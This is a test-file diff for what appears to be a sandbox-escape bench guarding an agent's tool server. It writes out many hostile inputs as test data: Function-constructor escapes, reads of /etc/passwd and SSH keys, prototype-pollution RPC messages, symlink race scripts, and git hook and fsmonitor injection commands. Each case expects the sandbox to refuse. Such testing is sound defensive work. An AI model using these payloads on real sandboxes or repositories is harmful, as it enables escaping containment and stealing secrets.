+      ['the constructor of a function', () => '(() => {}).constructor("return process")()', /process is not defined/],
+      [
+        'the constructor of an async function',
+        () => 'await (async () => {}).constructor("return require")()',
+        /require is not defined/,
+      ],
+      [
+        'the constructor of Buffer',
+        () => 'Buffer.constructor("return process.mainModule")()',
+        /process is not defined/,
+      ],
+      ['this of a loose function', () => 'new Function("return typeof this.process")()', /^undefined/],
+      [
+        'the frames of an error',
+        () => `Error.prepareStackTrace = (_, frames) => frames.map((frame) => typeof frame.getThis()?.process).join();
+          const seen = new Error('').stack; Error.prepareStackTrace = undefined; seen`,
+        /^(undefined,?)+/,
+      ],
+      ['a console', () => 'typeof console._stdout + typeof console.Console', /^undefinedundefined/],
+      ['a worker', () => 'new Worker("data:text/javascript,postMessage(typeof process)")', /Worker is not defined/],
+      ['a file address', () => 'await (await fetch("file:///etc/passwd")).text()', /there is no network here/],
+      ['the network', () => `await fetch("http://127.0.0.1:${world.tcpPort}")`, /there is no network here/],
+      ['a socket', () => `new WebSocket("ws://127.0.0.1:${world.tcpPort}")`, /there is no network here/],
+      [
+        'what fetch itself uses',
+        () => dispatch(AGENT, `http://127.0.0.1:${world.tcpPort}`),
+        /ECONNREFUSED|EPERM|is not/,
+      ],
+      [
+        'what fetch itself uses, with another address',
+        () =>
+          dispatch(
+            `new ${AGENT}.constructor({ connect: { lookup: (_, __, done) => done(null, [{ address: '127.0.0.1', family: 4 }]) } })`,
+            `http://x.example:${world.tcpPort}`,
+          ),
+        /ECONNREFUSED|EPERM/,
+      ],
+      [
+        'what fetch itself uses, with a socket of this machine',
+        () =>
+          dispatch(
+            `new ${AGENT}.constructor({ connect: { socketPath: ${JSON.stringify(world.socketInFolder)} } })`,
+            'http://x.example',
+          ),
+        /EPERM|ENOENT|ECONNREFUSED/,
+      ],
+      ['the files of tools, above the folder', () => 'await vfs.readFile("/../outside/secret.txt")', OUT_OF_ROOT],
+      ['the files of tools, of the machine', () => 'await vfs.readFile("/etc/passwd")', NOT_THERE],
+      ['the files of tools, to be written', () => 'await vfs.writeFile("../outside/f.txt", "x")', OUT_OF_ROOT],
+      ['git’s settings', () => 'await vfs.writeFile("/.git/config", "x")', /may not change|had not read it/],
+      [
+        'prototypes',
+        () =>
+          'Object.prototype.path = "/../outside/f.txt"; const read = await vfs.readFile({}).catch(String); delete Object.prototype.path; read',
+        /Error/,
+      ],
+    ])('%s', async (_, code, says) => {
+      expect((await world.javascript(code(), { timeout: 10 })).text).toMatch(says);
+    });
+
+    test.each<[string, () => string, RegExp]>([
+      ['files', () => `require('fs').readFileSync('${world.outside}/secret.txt')`, REFUSED],
+      ['home', () => `require('fs').readFileSync('${world.home}/.ssh/id_test')`, REFUSED],
+      [
+        'the network',
+        () => `require('net').connect(${world.tcpPort}, '127.0.0.1').on('error', ({ code }) => console.log(code))`,
+        NO_NETWORK,
+      ],
+      [
+        'programs',
+        () => `console.log(String(require('child_process').spawnSync('cat', ['${world.outside}/secret.txt']).stderr))`,
+        REFUSED,
+      ],
+    ])('%s, if it had Node’s modules', async (_, code, says) => {
+      expect((await world.bash(node(code()))).text).toMatch(says);
+    });
+  });
+
+  describe('by messages to the server', () => {
+    const nested = (open: string, close: string, depth = 200_000) => `${open.repeat(depth)}1${close.repeat(depth)}`;
+    const request = (params: string, id = '"hostile"') => `{"id":${id},"method":"call_tool","params":${params}}`;
+
+    test.each<[string, () => string, RegExp]>([
+      ['a tool named __proto__', () => request('{"name":"__proto__","input":{}}'), /There is no tool "__proto__"/],
+      ['a tool named constructor', () => request('{"name":"constructor"}'), /There is no tool "constructor"/],
+      ['a tool named toString', () => request('{"name":"toString","input":{}}'), /There is no tool "toString"/],
+      ['a method named __proto__', () => '{"id":"hostile","method":"__proto__"}', /There is no method/],
+      ['parameters of a prototype', () => request('{"__proto__":{"name":"ls"}}'), /"name" must be/],
+      [
+        'arguments of a prototype',
+        () => request('{"name":"read_file","input":{"__proto__":{"path":"/a.txt"}}}'),
+        /do not match its schema/,
+      ],
+      [
+        'a path of a prototype',
+        () => request('{"name":"read_file","input":{"file_path":{"__proto__":"/a.txt"}}}'),
+        /do not match its schema/,
+      ],
+      [
+        'a list for a path',
+        () => request('{"name":"read_file","input":{"path":["/../outside/secret.txt"]}}'),
+        /do not match its schema/,
+      ],
+      [
+        'an object for a command',
+        () => request('{"name":"bash","input":{"command":{"toString":"env"}}}'),
+        /do not match its schema/,
+      ],
+      [
+        'deep lists',
+        () => request(`{"name":"read_file","input":{"path":${nested('[', ']')}}}`),
+        /do not match its schema/,
+      ],
+      [
+        'deep objects',
+        () => request(`{"name":"write_file","input":${nested('{"a":', '}')}}`),
+        /do not match its schema/,
+      ],
+      ['deep parameters', () => request(nested('{"a":', '}')), /"name" must be/],
+      ['a deep id', () => request('{"name":"ls"}', nested('[', ']')), /could not be read/],
+      [
+        'a deep id that is cancelled',
+        () => `{"id":"hostile","method":"cancel","params":{"id":${nested('[', ']')}}}`,
+        /could not be read/,
+      ],
+      ['a long name', () => request(`{"name":"${'x'.repeat(1_000_000)}"}`), /There is no tool/],
+      ['no object', () => '[[["call_tool"]]]', /expected object/],
+      ['half of a message', () => '{"id":"hostile","method":"call_', /not valid JSON/],
+      ['control characters', () => '\u0000\u001b[2J{}', /not valid JSON/],
+    ])('%s', async (_, line, says) => {
+      const answered = world.client.wait(({ id }) => id === 'hostile' || id === null);
+      world.client.send(line());
+      const { text, isError } = world.checked(await answered, '');
+      expect(text).toMatch(says);
+      expect(isError).toBe(true);
+      expect((await world.call('read_file', { path: '/a.txt' })).text).toBe('alpha\n');
+    });
+
+    test('keys of prototypes in arguments change nothing', async () => {
+      const answered = world.client.wait(({ id }) => id === 'hostile');
+      world.client.send(
+        request(
+          '{"name":"read_file","input":{"path":"/a.txt","__proto__":{"limit":0},"constructor":{"prototype":{"isError":1}}}}',
+        ),
+      );
+      expect(world.checked(await answered, '').text).toBe('alpha\n');
     });
   });
 });
+
+describe.skipIf(isSkipped)(`a way out between check and use${because}`, () => {
+  const UNTIL_MS = 1_500;
+
+  beforeAll(async () => {
+    world = await EscapeBench.start();
+  });
+  afterEach(() => world.expectUntouched());
+  afterAll(() => world.stop());
+
+  /** Runs code in another process, again and again until the time is over. Resolves with how often it did. */
+  async function meanwhile(code: string, work: () => Promise<unknown>): Promise<number> {
+    const { folder, outside } = world;
+    const script = `const fs = require('fs'); const [root, outside] = ${JSON.stringify([folder, outside])};
+      const attempt = (work) => { try { work(); return true; } catch { return false; } };
+      const end = Date.now() + ${UNTIL_MS}; let count = 0;
+      while (Date.now() < end) { ${code} }
+      console.log(count);`;
+    const child = spawn(process.execPath, ['-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
+    let printed = '';
+    child.stdout.on('data', (data: Buffer) => {
+      printed += data.toString();
+    });
+    const ended = new Promise<void>((resolve) => child.once('close', () => resolve()));
+    let isOver = false;
+    void ended.then(() => {
+      isOver = true;
+    });
+    while (!isOver) await work();
+    return Number(printed);
+  }
+
+  /** Calls a tool; whatever it answers is all right if it says it clearly. */
+  async function call(tool: string, input: Record<string, unknown>, seen: string[]): Promise<Answer> {
+    const answer = await world.call(tool, input, world.outside);
+    expect(answer.text).toMatch(
+      answer.isError ? /^E[A-Z]+: |^Not (written|changed|edited)|has changed|changed since|No such/ : /./,
+    );
+    if (!answer.isError) seen.push(tool);
+    return answer;
+  }
+
+  test.each<[string, string, string]>([
+    ['a directory', 'd', 'sub'],
+    ['a directory far above', 'e', ''],
+  ])('%s is exchanged for a symlink', async (_, name, below) => {
+    const directory = `/${name}/${below}`.replace(/\/$/, '');
+    world.bench.write({ [`${name}/f.txt`]: 'mine', [`${name}/sub/f.txt`]: 'mine' });
+    const done: string[] = [];
+    let round = 0;
+    const count = await meanwhile(
+      `const place = root + '/${name}', aside = root + '/aside-${name}', link = root + '/link-${name}';
+       attempt(() => fs.symlinkSync(outside, link));
+       attempt(() => { fs.renameSync(place, aside); fs.renameSync(link, place); count++; });
+       attempt(() => { fs.renameSync(place, link); fs.renameSync(aside, place); });`,
+      async () => {
+        round++;
+        await Promise.all([
+          call('read_file', { path: `${directory}/f.txt` }, done),
+          call('list_directory', { path: directory }, done),
+          call('read_file', { path: `${directory}/secret.txt` }, done),
+          call('search_text', { pattern: 'CANARY' }, done),
+        ]);
+        await call('write_file', { path: `${directory}/new-${round % 5}.txt`, content: `mine ${round}` }, done);
+        await call('write_file', { path: `${directory}/f.txt`, content: 'mine' }, done);
+        await call('copy_path', { from: `${directory}/f.txt`, to: `/copy-${round}.txt` }, done);
+        await call('read_file', { path: `/copy-${round}.txt` }, done);
+        await call('move_path', { from: `${directory}/f.txt`, to: `${directory}/g.txt` }, done);
+        await call('move_path', { from: `${directory}/g.txt`, to: `${directory}/f.txt` }, done);
+        await call('delete_path', { path: `${directory}/new-${(round + 2) % 5}.txt` }, done);
+      },
+    );
+    expect(count).toBeGreaterThan(100);
+    // Neither of them always failed.
+    expect(done).toContain('read_file');
+    expect(done.filter((tool) => /^(write|copy|move|delete)_/.test(tool))).not.toEqual([]);
+    for (const [path, text] of world.bench.files()) expect(text, path).not.toContain(world.secret);
+  });
+
+  test('a file is exchanged for a symlink', async () => {
+    world.bench.write({ 'file.txt': 'mine' });
+    const done: string[] = [];
+    const count = await meanwhile(
+      `const place = root + '/file.txt';
+       attempt(() => { fs.symlinkSync(outside + '/f.txt', root + '/file-link'); fs.renameSync(root + '/file-link', place); count++; });
+       attempt(() => { fs.writeFileSync(root + '/file-own', 'mine'); fs.renameSync(root + '/file-own', place); });`,
+      async () => {
+        await Promise.all([
+          call('read_file', { path: '/file.txt' }, done),
+          call('count_lines', { path: '/file.txt' }, done),
+          call('search_text', { pattern: 'CANARY' }, done),
+        ]);
+        await call('write_file', { path: '/file.txt', content: 'changed' }, done);
+        await call('copy_path', { from: '/file.txt', to: '/file-copy.txt' }, done);
+        await call('delete_path', { path: '/file-copy.txt' }, done);
+      },
+    );
+    expect(count).toBeGreaterThan(100);
+    expect(done.length).toBeGreaterThan(0);
+    expect(readFileSync(join(world.outside, 'f.txt'), 'utf8')).toBe(world.secret);
+  });
+
+  test('the folder for changes that are being made is exchanged for a symlink', async () => {
+    world.bench.write({ 'often.txt': 'mine' });
+    const done: string[] = [];
+    let round = 0;
+    await meanwhile(
+      `for (const name of fs.readdirSync(root)) if (name.startsWith('.roundtrip-staging-')) {
+         const place = root + '/' + name;
+         for (let i = 0; i < Math.random() * 50; i++) attempt(() => fs.readdirSync(place));
+         attempt(() => { fs.renameSync(place, root + '/taken-' + count); fs.symlinkSync(outside, place); count++; });
+       }`,
+      async () => {
+        await call('write_file', { path: '/often.txt', content: `mine ${round++}` }, done);
+        await call('read_file', { path: '/often.txt' }, done);
+      },
+    );
+    expect(done.length).toBeGreaterThan(0);
+  });
+
+  test('the directory of a command is exchanged for a symlink', async () => {
+    world.bench.write({ 'cwd/f.txt': 'mine' });
+    await meanwhile(
+      `const place = root + '/cwd', aside = root + '/aside-cwd', link = root + '/link-cwd';
+       attempt(() => fs.symlinkSync(outside, link));
+       attempt(() => { fs.renameSync(place, aside); fs.renameSync(link, place); count++; });
+       attempt(() => { fs.renameSync(place, link); fs.renameSync(aside, place); });`,
+      async () => {
+        await world.call('bash', { command: 'cat f.txt; echo x >> f.txt; ls', cwd: '/cwd' }, world.outside);
+      },
+    );
+  });
+});
+
+describe.skipIf(isSkipped).each(['the folder', 'another folder'] as const)(
+  `hooks and settings of git, if the server was started in %s${because}`,
+  (startedIn) => {
+    beforeAll(async () => {
+      world = await EscapeBench.start({ startedIn });
+    });
+    afterEach(() => world.expectUntouched());
+    afterAll(() => world.stop());
+
+    /** What must stay as it is besides what the world checks itself. */
+    const PROTECTED_FILES = [
+      '.git/modules/libs/module/config',
+      '.git/modules/libs/module/hooks/sample',
+      'packages/nested/.git/config',
+      'packages/nested/.git/hooks/sample',
+      'linked/.git',
+    ];
+    const LINKED = 'gitdir: ../.git/modules/libs/module\n';
+
+    test.each<[string, string, RegExp]>([
+      ['a new hook', 'echo x > .git/hooks/pre-commit', REFUSED],
+      ['a hook by the settings', 'echo "[core] fsmonitor = touch pwned" >> .git/config', REFUSED],
+      [
+        'git config',
+        'git config core.fsmonitor "touch pwned"',
+        /could not lock|Read-only|not found|busy|could not write|unable/i,
+      ],
+      ['in place of the settings', 'echo x > c && mv -f c .git/config', REFUSED],
+      ['in place of the hooks', 'mv .git/hooks .git/old && mkdir .git/hooks', REFUSED],
+      ['in place of the repository', 'mv .git old && cp -r old .git', REFUSED],
+      ['through a link', 'echo x > git-link/hooks/pre-commit', REFUSED],
+      ['a link in place of the hooks', 'rm -rf .git/hooks && ln -s ../evil .git/hooks', REFUSED],
+      ['a hard link', 'ln .git/config hard && echo x >> hard', REFUSED],
+      ['modules', 'echo x >> .git/modules/libs/module/config; echo x > .git/modules/libs/module/hooks/x', REFUSED],
+      ['modules moved', 'mv .git/modules .git/old', REFUSED],
+      ['a repository below', 'echo x >> packages/nested/.git/config; echo x > packages/nested/.git/hooks/x', REFUSED],
+      ['a repository below, moved', 'mv packages elsewhere', REFUSED],
+      ['the place of a repository', 'echo "gitdir: ../evil" > linked/.git', REFUSED],
+      ['a file system', 'umount .git/hooks', /umount/],
+      [
+        'other settings',
+        'mkdir -p evil; echo x > evil/config; echo ../evil > .git/commondir',
+        /\.git\/commondir was removed again/,
+      ],
+      [
+        'other settings for a repository below',
+        'echo ../evil > packages/nested/.git/commondir',
+        /\.git\/commondir was removed again/,
+      ],
+    ])('a command: %s', async (_, command, says) => {
+      expect((await world.bash(command)).text).toMatch(says);
+      for (const path of PROTECTED_FILES)
+        expect(world.bench.read(path), path).toMatch(
+          /^(\[core\]\n|#!\/bin\/sh\n|gitdir: \.\.\/\.git\/modules\/libs\/module\n)$/,
+        );
+      expect(world.bench.read('linked/.git')).toBe(LINKED);
+      for (const path of ['.git/commondir', 'packages/nested/.git/commondir', 'packages/nested/.git/hooks/x', 'pwned'])
+        expect(world.bench.read(path), path).toBeUndefined();
+    });
+
+    test.each<[string, string, Record<string, unknown>]>([
+      ['a new hook', 'write_file', { path: '/.git/hooks/pre-commit', content: 'x' }],
+      ['a new hook in capitals', 'write_file', { path: '/.GIT/Hooks/pre-commit', content: 'x' }],
+      ['a new hook through a link', 'write_file', { path: '/git-link/hooks/pre-commit', content: 'x' }],
+      ['the settings', 'edit_file', { path: '/.git/config', find: '[core]', replace: '[alias]' }],
+      ['other settings', 'write_file', { path: '/.git/commondir', content: '../evil' }],
+      ['settings of a worktree', 'write_file', { path: '/.git/config.worktree', content: 'x' }],
+      ['a new repository', 'write_file', { path: '/new/.git/config', content: 'x' }],
+      ['a new place of a repository', 'write_file', { path: '/new/.git', content: 'gitdir: ../evil' }],
+      ['modules', 'write_file', { path: '/.git/modules/libs/module/hooks/x', content: 'x' }],
+      ['moving', 'move_path', { from: '/.git', to: '/old' }],
+      ['moving what has a repository in it', 'move_path', { from: '/packages', to: '/other' }],
+      ['moving over it', 'move_path', { from: '/a.txt', to: '/.git/hooks/pre-commit' }],
+      ['copying', 'copy_path', { from: '/a.txt', to: '/.git/hooks/pre-commit' }],
+      ['deleting', 'delete_path', { path: '/.git/hooks', recursive: true }],
+      ['deleting the settings', 'delete_path', { path: '/.git/config' }],
+      ['directories', 'make_directory', { path: '/.git/hooks/x' }],
+    ])('a tool: %s', async (_, tool, input) => {
+      const { text, isError } = await world.call(tool, input);
+      expect(isError, text).toBe(true);
+      expect(text).toMatch(PROTECTED);
+    });
+
+    test('a command of git’s own still works', async () => {
+      const { text } = await world.bash(
+        'git init -q fresh && cd fresh && touch a && git add a && git -c user.name=a -c user.email=a@b commit -qm one && git log --oneline',
+      );
+      expect(text).toMatch(/ one$|not found/);
+    });
+  },
+);
